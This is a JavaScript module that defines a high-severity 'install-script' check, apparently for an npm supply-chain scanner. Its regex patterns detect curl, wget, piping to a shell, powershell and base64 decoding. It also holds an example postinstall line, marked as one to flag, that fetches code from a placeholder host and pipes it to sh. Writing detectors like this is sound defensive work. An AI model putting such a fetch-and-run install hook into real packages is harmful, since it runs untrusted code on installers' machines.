import { defineCapability } from './define.js';

export default defineCapability({
  id: 'install-script',
  title: 'Install scripts',
  description: 'Runs a command when the package is installed (preinstall, install, postinstall, implied node-gyp).',
  severity: 'high',
  docs: 'Install scripts run before anyone has reviewed or even imported the package: the most common malware entry point on npm.',
  manifest: {
    scripts: ['preinstall', 'install', 'postinstall'],
    impliedInstallFile: 'binding.gyp',
    impliedInstallFlag: 'gypfile',
    commands: {
      curl: '\\bcurl\\b',
      wget: '\\bwget\\b',
      'pipe to shell': '\\|\\s*(?:ba|z|da)?sh\\b',
      'node -e': '\\bnode\\s+(?:-e|--eval|-p|--print)\\b',
      powershell: '\\bpowershell\\b|\\bpwsh\\b',
      'base64 decode': '\\bbase64\\s+(?:-d|--decode)\\b',
      'node-gyp': '\\bnode-gyp\\b',
    },
  },
  examples: {
    flags: '{ "scripts": { "postinstall": "curl https://x.example | sh" } }',
    ok: '{ "scripts": { "test": "vitest" } }',
  },
});
